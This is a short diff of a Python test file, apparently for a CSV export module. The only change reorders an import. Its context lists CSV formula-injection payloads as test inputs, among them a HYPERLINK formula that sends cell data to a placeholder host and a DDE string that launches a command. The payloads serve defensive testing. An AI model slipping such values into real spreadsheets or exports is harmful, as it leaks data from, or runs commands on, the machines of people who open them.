@@ -4,9 +4,9 @@ import csv
 from pathlib import Path
 
 import pytest
-from tests.test_format_common import sample_records
 
 from annotator.formats import csv_tables
+from tests.test_format_common import sample_records
 
 PAYLOADS = ['=HYPERLINK("http://canary.invalid/?x="&A1,"x")', "+cmd|' /C calc'!A0", "-2+3",
             "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1"]
